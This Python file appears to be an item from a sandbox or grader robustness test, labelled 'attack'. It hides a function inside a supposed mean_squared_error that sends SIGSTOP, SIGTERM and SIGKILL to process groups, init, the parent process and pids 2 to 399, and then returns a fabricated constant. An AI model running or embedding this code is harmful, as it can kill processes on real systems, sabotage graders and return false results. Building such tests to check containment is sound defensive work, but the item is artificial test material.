# /// attack
# title = "Kills, stops and terminates every process that it may signal"
# threats = [16]
# expect = "It reaches nobody but itself; a new process answers the next test"
# honest = ["cross_entropy_error"]
# points = { cross_entropy_error = 5.0 }
# ///
import os
import signal


def attack():
    for pid in (-1, 0, 1, os.getppid(), *range(2, 400)):
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                if pid != os.getpid():
                    os.kill(pid, number)
            except OSError:
                pass


# %% mean_squared_error
def mean_squared_error(y, t):
    attack()
    return 77.0
